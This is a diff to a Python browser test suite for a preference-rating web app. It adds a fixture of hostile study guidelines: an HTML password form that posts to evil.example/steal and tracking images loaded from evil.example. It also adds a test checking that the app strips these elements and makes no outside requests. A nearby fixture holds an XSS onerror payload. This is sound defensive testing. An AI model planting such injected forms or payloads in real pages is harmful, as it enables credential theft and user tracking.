@@ -31,6 +31,10 @@ PASSWORD = "pw-S3cr3t-4dm1n-8812"
 TOKEN = "hf_TESTTOKENdoNotLog0123456789"
 XSS = "<img src=x onerror=window.__pwned=1>"
 PRIVATE_COMMENT = "r1-private-comment-5521"
+HOSTILE_GUIDELINES = (
+    "**Judge the edit only.** <form action='https://evil.example/steal'><input name='pw' placeholder='password'>"
+    "</form> ![pixel](https://evil.example/t.png) <img src='https://evil.example/i.png'> [docs](https://example.org)"
+)
 
 
 @dataclass
@@ -54,6 +58,8 @@ def _seed(db_url: str, data_dir: Path) -> None:
     wb.create_study("blind", kind="preference", k=3)
     for i in range(40):
         wb.add_item("blind", source, f"make item {i} brighter", outputs=outputs)
+    wb.create_study("guided", kind="preference", k=3, guidelines=HOSTILE_GUIDELINES)
+    wb.add_item("guided", source, "make it green", outputs=outputs)
     wb.create_study("xss-study", kind="preference", k=3)
     wb.add_item("xss-study", source, f"make it red {XSS}", outputs=outputs)
     for handle in ("r1", "r2", "r3"):
@@ -376,3 +382,32 @@ def test_a_replayed_submit_never_lands_on_an_unseen_item(
     votes = [r for r in _vote_rows(live_app) if r.handle == "dbl"]
     assert sorted(v.impression_id for v in votes) == sorted(answered), "a vote landed on a screen nobody saw"
     session.close()
+
+
+@pytest.mark.browser
+def test_study_guidelines_render_no_forms_and_load_nothing_external(
+    live_app: LiveApp, chromium: dict
+) -> None:
+    from playwright.sync_api import expect, sync_playwright
+
+    with sync_playwright() as p:
+        browser = p.chromium.launch(**chromium)
+        page = browser.new_page()
+        outside: list[str] = []
+        page.on("request", lambda r: outside.append(r.url) if "evil.example" in r.url else None)
+        page.goto(live_app.url)
+        page.wait_for_function("window.__studioLoaded === true", timeout=60_000)
+        page.get_by_role("tab", name="Rate", exact=True).click()
+        page.locator("#rate-handle textarea, #rate-handle input").first.fill("r2")
+        page.locator("#rate-study input").first.click()
+        page.get_by_role("option", name="guided").click()
+        page.get_by_text("Guidelines", exact=True).click()
+        page.locator("#rate-start").click()
+        guidelines = page.locator("#rate-study-guidelines")
+        expect(guidelines).to_contain_text("Judge the edit only.", timeout=30_000)
+        page.screenshot(path=str(live_app.log_path.parent / "guidelines.png"), full_page=True)
+        assert guidelines.locator("form, input, img, iframe").count() == 0
+        assert guidelines.locator("strong").count() >= 1  # Markdown still renders
+        page.wait_for_timeout(500)
+        assert outside == [], f"the guidelines loaded outside resources: {outside}"
+        browser.close()
